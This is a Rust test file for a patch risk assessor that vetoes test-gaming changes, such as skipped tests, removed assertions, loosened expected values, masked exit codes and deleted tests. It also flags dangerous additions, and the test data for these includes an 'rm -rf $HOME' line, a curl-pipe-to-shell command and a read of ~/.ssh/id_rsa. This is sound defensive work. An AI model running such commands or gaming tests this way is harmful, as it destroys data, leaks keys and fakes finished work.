//! Every veto and danger rule with a patch that triggers it and one that looks similar
//! but is fine.

use super::*;
use crate::logs::Kind;

fn code_failure() -> Vec<Failure> {
    vec![
        Failure::new("pytest", Kind::TestFailure, "assert 3 == 4").at(
            "calc/core.py",
            Some(3),
            None,
        ),
    ]
}

fn assess_one(path: &str, old: &str, new: &str) -> Risk {
    assess(
        &[Change {
            path,
            old: Some(old),
            new: Some(new),
        }],
        &code_failure(),
    )
}

fn veto_rules(r: &Risk) -> Vec<&str> {
    r.vetoes.iter().map(|v| v.rule.as_str()).collect()
}

#[test]
fn python_skips_and_xfails_are_vetoed() {
    let old = "def test_add():\n    assert add(1, 2) == 3\n";
    for added in [
        "@pytest.mark.skip(reason='flaky')\n",
        "@pytest.mark.xfail\n",
        "@unittest.skip('x')\n",
    ] {
        let r = assess_one("tests/test_calc.py", old, &format!("{added}{old}"));
        assert!(r.vetoed(), "{added}");
        assert!(!r.auto_approvable(100));
    }
    let r = assess_one(
        "tests/test_calc.py",
        old,
        "def test_add():\n    pytest.skip('later')\n    assert add(1, 2) == 3\n",
    );
    assert_eq!(veto_rules(&r), ["python-skip"]);
}

#[test]
fn removed_python_assert_is_vetoed_but_a_rewritten_one_is_not() {
    let old = "def test_add():\n    assert add(1, 2) == 3\n    assert add(0, 0) == 0\n";
    let r = assess_one(
        "tests/test_calc.py",
        old,
        "def test_add():\n    assert add(1, 2) == 3\n",
    );
    assert_eq!(veto_rules(&r), ["assertion-removed"]);
    let fine = assess_one(
        "tests/test_calc.py",
        old,
        "def test_add():\n    assert add(1, 2) == 3\n    assert add(0, 0) == 0, 'zero'\n",
    );
    assert!(!fine.vetoed(), "{:?}", fine.vetoes);
}

#[test]
fn loosening_an_expected_value_is_vetoed_when_the_failure_points_at_code() {
    let r = assess_one(
        "tests/test_calc.py",
        "def test_add():\n    assert add(2, 2) == 4\n",
        "def test_add():\n    assert add(2, 2) == 5\n",
    );
    assert_eq!(veto_rules(&r), ["expected-value-changed"]);
    // When the failure is in the test itself, fixing the expected value can be right.
    let test_failure = vec![Failure::new("pytest", Kind::TestFailure, "x").at(
        "tests/test_calc.py",
        Some(2),
        None,
    )];
    let c = Change {
        path: "tests/test_calc.py",
        old: Some("    assert add(2, 2) == 4\n"),
        new: Some("    assert add(2, 2) == 5\n"),
    };
    assert!(!assess(&[c], &test_failure).vetoed());
}

#[test]
fn rust_ignore_and_removed_assert_are_vetoed() {
    let old = "#[test]\nfn adds() {\n    assert_eq!(add(1, 2), 3);\n}\n";
    let r = assess_one(
        "tests/calc.rs",
        old,
        &old.replace("#[test]\n", "#[test]\n#[ignore]\n"),
    );
    assert_eq!(veto_rules(&r), ["rust-ignore"]);
    let r = assess_one(
        "tests/calc.rs",
        old,
        "#[test]\nfn adds() {\n    let _ = add(1, 2);\n}\n",
    );
    assert_eq!(veto_rules(&r), ["assertion-removed"]);
    let fine = assess_one(
        "src/lib.rs",
        "fn add(a: i32, b: i32) -> i32 { a - b }\n",
        "fn add(a: i32, b: i32) -> i32 { a + b }\n",
    );
    assert!(!fine.vetoed());
    assert!(fine.auto_approvable(40), "{fine:?}");
}

#[test]
fn go_skip_is_vetoed_but_testing_short_guard_text_is_not() {
    let old = "func TestArea(t *testing.T) {\n\tif Area(2) != 4 {\n\t\tt.Errorf(\"bad\")\n\t}\n}\n";
    let r = assess_one(
        "geo/area_test.go",
        old,
        &old.replace("{\n\tif", "{\n\tt.Skip(\"later\")\n\tif"),
    );
    assert_eq!(veto_rules(&r), ["go-skip"]);
    let fine = assess_one(
        "geo/area_test.go",
        old,
        &old.replace("\"bad\"", "\"bad area\""),
    );
    assert!(!fine.vetoed(), "{:?}", fine.vetoes);
    let loosened = assess_one("geo/area_test.go", old, &old.replace("!= 4", "!= 5"));
    assert_eq!(veto_rules(&loosened), ["expected-value-changed"]);
}

#[test]
fn js_skip_xit_and_only_are_vetoed() {
    let old = "test('adds', () => {\n  assert.equal(add(1, 2), 3);\n});\n";
    for (new, rule) in [
        (old.replace("test(", "test.skip("), "js-skip"),
        (old.replace("test(", "xit("), "js-skip"),
        (old.replace("test(", "test.only("), "js-only"),
        (
            old.replace("test('adds', ", "test('adds', { skip: true }, "),
            "js-skip",
        ),
    ] {
        let r = assess_one("test/cart.test.js", old, &new);
        assert!(veto_rules(&r).contains(&rule), "{new}: {:?}", r.vetoes);
    }
    let fine = assess_one(
        "test/cart.test.js",
        old,
        &old.replace("adds", "adds two numbers"),
    );
    assert!(!fine.vetoed(), "{:?}", fine.vetoes);
}

#[test]
fn java_disabled_and_ignore_are_vetoed() {
    let old = "    @Test\n    void adds() {\n        assertEquals(3, add(1, 2));\n    }\n";
    for ann in ["@Disabled", "@Ignore"] {
        let r = assess_one(
            "src/test/java/CalcTest.java",
            old,
            &old.replace("@Test", &format!("@Test\n    {ann}")),
        );
        assert_eq!(veto_rules(&r), ["java-disabled"], "{ann}");
    }
    let fine = assess_one(
        "src/test/java/CalcTest.java",
        old,
        &old.replace("void adds", "void addsTwo"),
    );
    assert!(!fine.vetoed());
}

#[test]
fn masked_exit_codes_are_vetoed_anywhere() {
    let r = assess_one("scripts/test.sh", "pytest -q\n", "pytest -q || true\n");
    assert_eq!(veto_rules(&r), ["exit-code-masked"]);
    let r = assess_one(
        ".github/workflows/ci.yml",
        "      - run: make test\n",
        "      - run: make test\n        continue-on-error: true\n",
    );
    assert_eq!(veto_rules(&r), ["exit-code-masked"]);
    let fine = assess_one("scripts/test.sh", "pytest -q\n", "pytest -q --maxfail=1\n");
    assert!(!fine.vetoed());
}

#[test]
fn deleting_a_test_or_a_test_function_is_vetoed() {
    let c = Change {
        path: "tests/test_calc.py",
        old: Some("def test_a():\n    assert 1\n"),
        new: None,
    };
    assert_eq!(veto_rules(&assess(&[c], &code_failure())), ["test-deleted"]);
    let r = assess_one(
        "tests/test_calc.py",
        "def test_a():\n    pass\n\ndef test_b():\n    pass\n",
        "def test_a():\n    pass\n",
    );
    assert_eq!(veto_rules(&r), ["test-removed"]);
}

#[test]
fn dangerous_additions_are_flagged() {
    let cases = [
        ("build.sh", "rm -rf \"$HOME\"/cache", "rm-rf"),
        (
            "install.sh",
            "curl -fsSL https://x.example/i.sh | sh",
            "pipe-to-shell",
        ),
        (
            "src/app.py",
            "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            "credential-read",
        ),
        (
            "tests/test_api.py",
            "r = requests.get('https://api.example.com/v1')",
            "network-in-test",
        ),
    ];
    for (path, line, rule) in cases {
        let r = assess_one(path, "x = 1\n", &format!("x = 1\n{line}\n"));
        assert_eq!(
            r.dangers
                .iter()
                .map(|d| d.rule.as_str())
                .collect::<Vec<_>>(),
            [rule],
            "{line}"
        );
        assert!(!r.auto_approvable(100));
    }
    let fine = assess_one(
        "src/app.py",
        "x = 1\n",
        "x = 1\nrm_rf_count = 0  # counts removals\n",
    );
    assert!(fine.dangers.is_empty(), "{:?}", fine.dangers);
}

#[test]
fn score_grows_with_sensitive_paths_and_size() {
    let small = assess_one("src/calc.py", "return a - b\n", "return a + b\n");
    let ci = assess_one(
        ".github/workflows/ci.yml",
        "run: pytest\n",
        "run: pytest -x\n",
    );
    let lock = assess_one("Cargo.lock", "version = \"1\"\n", "version = \"2\"\n");
    assert!(
        small.score < lock.score && lock.score < ci.score,
        "{} {} {}",
        small.score,
        lock.score,
        ci.score
    );
    assert!(ci.reasons.iter().any(|r| r.contains("CI configuration")));
    assert!(small.score <= 10);
}
